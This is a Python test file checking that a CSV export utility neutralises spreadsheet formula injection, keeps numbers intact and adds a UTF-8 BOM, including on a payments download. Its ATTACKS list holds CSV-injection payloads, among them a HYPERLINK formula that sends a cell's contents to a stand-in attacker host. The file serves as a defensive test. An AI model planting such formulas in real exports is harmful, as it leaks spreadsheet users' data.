"""CSV downloads open safely in a spreadsheet: no text cell runs as a formula, numbers stay numbers,
and a BOM tells Excel the file is UTF-8."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from incubator.core import csvutil

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_text_that_a_spreadsheet_would_run_is_quoted():
    rows = _read(csvutil.to_text([ATTACKS]))
    assert rows == [["'" + value for value in ATTACKS]]


def test_numbers_and_ordinary_text_stay_as_they_are():
    rows = _read(csvutil.to_text([[-5, Decimal("-1500.50"), 0, "Công ty TNHH FactoryEye", "a=b", "", None]]))
    assert rows == [["-5", "-1500.50", "0", "Công ty TNHH FactoryEye", "a=b", "", ""]]


def test_bytes_are_utf8_with_a_bom_and_the_bom_can_be_left_to_the_caller():
    data = csvutil.to_bytes([["Việt Nam"]])
    assert data.startswith(b"\xef\xbb\xbf") and "Việt Nam" in data.decode("utf-8-sig")
    assert not csvutil.to_text([["x"]], bom=False).startswith("\ufeff")


def test_the_payments_csv_is_guarded(client, sign_in, session, paying):
    """A payment's description carries a resource's name: a manager's CSV must not run it."""
    from incubator.core.db import utcnow
    from incubator.ledger.models import Payment, PaymentPurpose, PaymentStatus

    session.add(Payment(org_id=paying.org.id, purpose=PaymentPurpose.APPLICATION_FEE, user_id=paying.founder.id,
                        description=ATTACKS[0], amount=150_000, currency="VND", status=PaymentStatus.PAID,
                        destination_account="acct_1TestBBI", idempotency_key="csv-guard", paid_at=utcnow()))
    session.flush()
    sign_in(paying.manager)
    response = client.get("/o/bbi/manage/payments.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert [(r["description"], r["amount"], r["net"]) for r in rows] == [("'" + ATTACKS[0], "150000", "150000")]
    assert response.get_data().startswith(b"\xef\xbb\xbf")
